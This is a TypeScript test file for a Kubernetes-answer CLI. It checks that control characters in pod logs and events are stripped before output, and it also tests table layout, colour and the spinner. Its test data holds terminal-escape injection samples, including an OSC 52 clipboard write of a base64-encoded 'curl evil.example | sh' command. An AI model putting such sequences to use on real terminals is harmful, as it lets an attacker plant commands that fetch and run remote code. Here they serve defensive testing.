import stringWidth from "string-width";
import { describe, expect, it } from "vitest";
import { parse } from "yaml";
import type { Answer } from "../../src/core/answer.js";
import { formatAnswer, OUTPUT_FORMATS, terminalOf } from "../../src/frontends/cli/print-answer.js";
import { alignColumns, renderAnswerText } from "../../src/frontends/cli/render-text.js";
import { startSpinner } from "../../src/frontends/cli/spinner.js";
import { stripControlCharacters } from "../../src/frontends/cli/terminal-safe.js";

/** What a hostile workload can write to its log, an event or an annotation. */
const HOSTILE = [
  "before\u001b[2Jafter", // clear the screen
  "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007", // OSC 52: write "curl evil.example | sh" to the clipboard
  "\u001b]8;;https://evil.example\u001b\\click\u001b]8;;\u001b\\", // OSC 8 hyperlink
  "\u009b2J C1 CSI", // the 8-bit CSI
  "bell\u0007 backspace\u0008 cr\r del\u007f",
];
// Every control character but tab and newline: C0, DEL, C1.
const CONTROL = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F]/;

function hostileAnswer(): Answer {
  return {
    requestId: "r1",
    question: "logs of evil",
    language: "en",
    summary: `Logs of pod evil: ${HOSTILE[0]}`,
    parts: [
      { type: "code", title: "Logs", language: "log", code: `${HOSTILE.join("\n")}\n\tindented` },
      { type: "table", title: "Events", columns: ["REASON", "MESSAGE"], rows: [["Evil", HOSTILE[2]]] },
      {
        type: "findings",
        title: "Diagnosis",
        findings: [
          {
            severity: "critical",
            object: { kind: "Pod", name: "evil", namespace: "x" },
            reason: "CrashLoopBackOff",
            message: HOSTILE[3],
            evidence: [HOSTILE[1]],
          },
        ],
      },
    ],
    calls: [{ tool: "get_pod_logs", args: { name: "evil" }, ok: true, durationMs: 1 }],
    refusal: null,
    planner: "builtin",
    cluster: "demo",
    timings: { totalMs: 1, planningMs: 0, clusterMs: 1, llmMs: 0 },
    computedAt: "2026-12-02T00:00:00.000Z",
    cached: false,
    notes: [HOSTILE[4]],
  };
}

describe("control characters from the cluster never reach the terminal", () => {
  it("stripControlCharacters keeps newline, tab and every printable character", () => {
    expect(stripControlCharacters("a\tb\nc 中文 é")).toBe("a\tb\nc 中文 é");
    for (let code = 0; code < 0xa0; code++) {
      const character = String.fromCharCode(code);
      const kept = code === 9 || code === 10 || (code >= 0x20 && code < 0x7f);
      expect(stripControlCharacters(character), `U+${code.toString(16)}`).toBe(kept ? character : "");
    }
  });

  it.each(OUTPUT_FORMATS)("in --output %s, with colour on or off", async (format) => {
    for (const colour of [false, true]) {
      const output = await formatAnswer(hostileAnswer(), format, { colour, columns: 80 });
      const withoutOwnColour = output.replace(/\u001b\[[0-9;]*m/g, "");
      expect(withoutOwnColour).not.toMatch(CONTROL);
      expect(output).toContain(format === "json" ? "\\tindented" : "\tindented");
      expect(output).toContain("before[2Jafter");
    }
  });

  it("JSON and YAML stay parseable and keep the text", async () => {
    const json = JSON.parse(await formatAnswer(hostileAnswer(), "json", { colour: false }));
    const yaml = parse(await formatAnswer(hostileAnswer(), "yaml", { colour: false }));
    expect(yaml).toEqual(json);
    expect(json.parts[0].code).toContain("]52;c;Y3VybC");
  });
});

describe("terminal text", () => {
  it("colour only on a TTY that has colours (NO_COLOR makes hasColors() false)", () => {
    expect(terminalOf({ isTTY: false, columns: 80, hasColors: () => true })).toEqual({ colour: false });
    expect(terminalOf({ isTTY: true, columns: 80, hasColors: () => false })).toEqual({
      columns: 80,
      colour: false,
    });
    expect(terminalOf({ isTTY: true, columns: 80, hasColors: () => true })).toEqual({
      columns: 80,
      colour: true,
    });
  });

  it("tables fit the terminal's width, for any cell widths (CJK too)", () => {
    let seed = 7;
    const random = (n: number) => {
      seed = (seed * 1_103_515_245 + 12_345) % 2 ** 31;
      return seed % n;
    };
    const alphabet = ["a", "b", "中", "é", "-", "9"];
    for (let table = 0; table < 200; table++) {
      const columns = 1 + random(7);
      const rows = Array.from({ length: 1 + random(5) }, () =>
        Array.from({ length: columns }, () =>
          Array.from({ length: random(60) }, () => alphabet[random(alphabet.length)]).join(""),
        ),
      );
      const width = 40 + random(80);
      const room = columns * 8 + 3 * (columns - 1);
      for (const line of alignColumns(rows, width))
        expect(stringWidth(line)).toBeLessThanOrEqual(Math.max(width, room));
    }
  });

  it("a cut cell ends in … and a table that fits is left whole", () => {
    const rows = [
      ["NAME", "MESSAGE"],
      ["web", "x".repeat(100)],
    ];
    expect(alignColumns(rows, 40)[1]).toMatch(/^web +x+…$/);
    expect(alignColumns(rows)[1]).toBe(`web    ${"x".repeat(100)}`);
  });

  it("a failed call the summary already tells is printed once", () => {
    const answer = hostileAnswer();
    answer.summary = 'describe_resource did not complete: No pod named "x" in shop';
    answer.calls = [
      {
        tool: "describe_resource",
        args: {},
        ok: false,
        error: { code: "not_found", message: 'No pod named "x" in shop' },
        durationMs: 1,
      },
    ];
    expect(renderAnswerText(answer).split('No pod named "x"')).toHaveLength(2);
    answer.summary = "Something else.";
    expect(renderAnswerText(answer)).toContain('describe_resource failed: No pod named "x" in shop');
  });

  it("no spinner when standard error is piped or plain", () => {
    const written: string[] = [];
    const stream = (isTTY: boolean, colours: boolean) => ({
      isTTY,
      hasColors: () => colours,
      write: (text: string) => written.push(text) > 0,
    });
    startSpinner(stream(false, true), "x")();
    startSpinner(stream(true, false), "x")();
    expect(written).toEqual([]);
    startSpinner(stream(true, true), "x")();
    expect(written.length).toBeGreaterThan(0);
  });
});
